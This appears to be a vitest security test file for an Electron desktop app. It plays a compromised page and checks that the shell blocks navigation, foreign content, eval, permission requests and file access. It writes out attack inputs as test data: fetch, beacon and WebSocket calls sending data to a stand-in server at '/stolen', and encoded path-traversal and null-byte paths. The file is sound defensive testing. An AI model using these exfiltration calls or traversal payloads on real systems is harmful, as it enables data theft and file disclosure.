/** What a page must not get out of its shell, tried from a page that has fallen into foreign hands. */
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { type LaunchedDesk, launchDesk } from '../launch/launch-desk.ts'
import { type ForeignServer, startForeignServer } from './foreign-server.ts'

let folder: string
let desk: LaunchedDesk
let foreign: ForeignServer

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'shell-attacks-'))
  foreign = await startForeignServer()
  // Nothing listens there, so the window shows that its database is away, which is page enough.
  desk = await launchDesk({ dataFolder: folder, databaseUrl: 'postgres://desk@127.0.0.1:1/venue' })
  await desk.page.evaluate(() => Reflect.set(window, 'isSamePage', true))
  process.stdout.write(`shell attacks, tried on ${desk.engine}\n`)
})

afterAll(async () => {
  await desk.close()
  await foreign.close()
  await rm(folder, { recursive: true, force: true })
})

/** Whatever was tried: the page is where it was, alone, and the other server heard nothing. */
afterEach(async () => {
  expect(await desk.page.evaluate(() => Reflect.get(window, 'isSamePage'))).toBe(true)
  await vi.waitFor(() => expect(desk.page.context().pages()).toHaveLength(1))
  expect(foreign.takeRequests()).toEqual([])
})

/** The shell says in its log what it refused; waits for that. */
function refusals(message: string): number {
  return desk.output().split(message).length - 1
}

async function refusedOnce(message: string, attack: () => Promise<unknown>): Promise<void> {
  const before = refusals(message)
  await attack()
  await vi.waitFor(() => expect(refusals(message)).toBeGreaterThan(before), 5000)
}

async function clickLink(address: string, target = ''): Promise<void> {
  await desk.page.evaluate(
    ([href, frame]) => {
      const link = document.createElement('a')
      link.href = href
      link.target = frame
      document.body.append(link)
      link.click()
      link.remove()
    },
    [address, target] as const,
  )
}

function page<Answer>(attack: (origin: string) => Answer) {
  return desk.page.evaluate(attack, foreign.origin)
}

describe('leaving the page', () => {
  const refused = 'refused to leave the page'

  it('by a link whose query names our own origin', () =>
    refusedOnce(refused, () => clickLink(`${foreign.origin}/?next=app://venue/`)))

  it('by a link that would be redirected to our own origin', () =>
    refusedOnce(refused, () => clickLink(`${foreign.origin}/redirect`)))

  it('by a script', () =>
    refusedOnce(refused, () =>
      page((origin) => {
        location.href = `${origin}/stolen`
      }),
    ))

  it('by a link to a javascript: address', async () => {
    await clickLink('javascript:window.isSamePage=false')
    expect(await page(() => Reflect.get(window, 'isSamePage'))).toBe(true)
  })

  it('by posting a form', async () => {
    await page((origin) => {
      const form = document.createElement('form')
      form.action = `${origin}/form`
      form.method = 'post'
      document.body.append(form)
      form.submit()
      form.remove()
    })
  })
})

describe('opening windows', () => {
  const refused = 'refused to open an address'

  it('window.open of a plain web address opens nothing', () =>
    refusedOnce(refused, () => page((origin) => void window.open(`${origin}/popup`))))

  it('a link for a new window opens nothing', () =>
    refusedOnce(refused, () => clickLink(`${foreign.origin}/popup`, '_blank')))

  it('an https address goes to the system’s browser, and opens no window here', async () => {
    const address = 'https://help.invalid/booking?x=1'
    await clickLink(address, '_blank')
    await vi.waitFor(async () => expect(await desk.openedLinks()).toEqual([address]), 5000)
  })
})

describe('bringing foreign content in', () => {
  it('a foreign page in a frame is not loaded', async () => {
    await page(async (origin) => {
      const frame = document.createElement('iframe')
      frame.src = `${origin}/frame`
      const isSettled = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await isSettled
      frame.remove()
    })
  })

  it('a script written into the page does not run', async () => {
    const ran = await page(() => {
      const script = document.createElement('script')
      script.textContent = 'window.ranInline = true'
      document.body.append(script)
      script.remove()
      return Reflect.get(window, 'ranInline')
    })
    expect(ran).toBeUndefined()
  })

  it('an event handler written as text does not run', async () => {
    const ran = await page(() => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.ranHandler = true')
      document.body.append(button)
      button.click()
      button.remove()
      return Reflect.get(window, 'ranHandler')
    })
    expect(ran).toBeUndefined()
  })

  it('a text is not made into a function', async () => {
    const outcome = await page(
      () =>
        new Promise((resolve) =>
          // Later, since the tool that drives the page exempts what it runs at once from the page's policy.
          setTimeout(() => {
            try {
              resolve(Reflect.construct(Function, ['return "ran"'])())
            } catch (error) {
              resolve(error instanceof EvalError ? 'refused' : String(error))
            }
          }),
        ),
    )
    expect(outcome).toBe('refused')
  })

  it.each(['script', 'img'])('a foreign %s is not loaded', async (tag) => {
    const outcome = await desk.page.evaluate(
      ([name, origin]) =>
        new Promise((resolve) => {
          const element = document.createElement(name)
          element.addEventListener('load', () => resolve('loaded'))
          element.addEventListener('error', () => resolve('refused'))
          element.setAttribute('src', `${origin}/content`)
          document.body.append(element)
        }),
      [tag, foreign.origin] as const,
    )
    expect(outcome).toBe('refused')
  })

  it('a foreign stylesheet is not loaded', async () => {
    const outcome = await page(
      (origin) =>
        new Promise((resolve) => {
          const link = document.createElement('link')
          link.rel = 'stylesheet'
          link.addEventListener('load', () => resolve('loaded'))
          link.addEventListener('error', () => resolve('refused'))
          link.href = `${origin}/style.css`
          document.head.append(link)
        }),
    )
    expect(outcome).toBe('refused')
  })
})

describe('taking data out', () => {
  it('fetch reaches no other server', async () => {
    expect(await page((origin) => fetch(`${origin}/stolen`).then(String, () => 'refused'))).toBe('refused')
  })

  it('a beacon reaches no other server', async () => {
    await page((origin) => navigator.sendBeacon(`${origin}/stolen`, 'names'))
    expect(await page(() => fetch('/').then((answer) => answer.status))).toBe(200)
  })

  it('a web socket reaches no other server', async () => {
    const outcome = await page(
      (origin) =>
        new Promise((resolve) => {
          try {
            const socket = new WebSocket(origin.replace('http', 'ws'))
            socket.addEventListener('open', () => resolve('open'))
            socket.addEventListener('error', () => resolve('refused'))
          } catch {
            resolve('refused')
          }
        }),
    )
    expect(outcome).toBe('refused')
  })
})

describe('asking for permissions', () => {
  it('notifications are refused without asking anybody', async () => {
    expect(await page(() => Notification.requestPermission())).toBe('denied')
  })

  it('camera and microphone are refused', async () => {
    const outcome = await page(() =>
      navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(
        () => 'granted',
        (error: DOMException) => error.name,
      ),
    )
    expect(['NotAllowedError', 'NotFoundError']).toContain(outcome)
  })

  it('the place of the PC is refused', async () => {
    const outcome = await page(
      () =>
        new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve('granted'),
            (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : 'unavailable'),
          ),
        ),
    )
    expect(outcome).toBe('denied')
  })
})

describe('the program’s own files', () => {
  function ask(path: string, method = 'GET') {
    return desk.page.evaluate(
      async ([address, verb]) => {
        const answer = await fetch(address, { method: verb })
        return { status: answer.status, text: await answer.text() }
      },
      [path, method] as const,
    )
  }

  it.each([
    '/..%2f..%2fpackage.json',
    '/%2e%2e%2fmain/main.js',
    '/assets/..%2f..%2fpreload/preload.cjs',
    '/..%5c..%5cpackage.json',
    '/index.html%00.js',
  ])('a path that climbs out, %s, is not served', async (path) => {
    expect(await ask(path)).toEqual({ status: 404, text: '' })
  })

  it.each(['POST', 'PUT', 'DELETE'])('%s is refused', async (method) => {
    expect(await ask('/', method)).toEqual({ status: 405, text: '' })
  })

  it('come with the strict policy', async () => {
    const headers = await page(() => fetch('/').then((answer) => Object.fromEntries(answer.headers)))
    expect(headers['content-security-policy']).toContain("default-src 'none'")
    expect(headers['x-content-type-options']).toBe('nosniff')
  })
})

describe('the doorway', () => {
  it('has two functions, cannot be replaced, and Node is not in the page', async () => {
    const found = await page(() => {
      const { slotkeeper } = window
      Reflect.set(window, 'slotkeeper', 'mine')
      Reflect.set(slotkeeper, 'call', 'mine')
      return {
        names: Object.keys(window.slotkeeper).sort(),
        kinds: [typeof window.slotkeeper.call, typeof window.slotkeeper.subscribe],
        node: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter(
          (name) => name in window,
        ),
      }
    })
    expect(found).toEqual({ names: ['call', 'subscribe'], kinds: ['function', 'function'], node: [] })
  })

  it('hands out events without Electron’s own event object', async () => {
    const counts = page(
      () =>
        new Promise((resolve) => {
          const stop = window.slotkeeper.subscribe((...values) => {
            stop()
            resolve([values.length, Object.keys(values[0]).sort()])
          })
          void window.slotkeeper.call('connection.retry', {})
        }),
    )
    expect(await counts).toEqual([1, ['event', 'payload']])
  })

  it('is not in a frame inside the page', async () => {
    const found = await page(() => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const isThere = frame.contentWindow !== null && 'slotkeeper' in frame.contentWindow
      frame.remove()
      return isThere
    })
    expect(found).toBe(false)
  })

  it('answers nonsense with an envelope', async () => {
    const answers = await page(() =>
      Promise.all(
        [
          [undefined, undefined],
          [{}, {}],
          ['connection.get', { surplus: 1 }],
          ['connection.save', null],
          ['__proto__', {}],
        ].map(([op, input]) => Reflect.apply(window.slotkeeper.call, undefined, [op, input])),
      ),
    )
    for (const answer of answers)
      expect(answer).toMatchObject({ ok: false, error: { message: expect.any(String) } })
  })
})
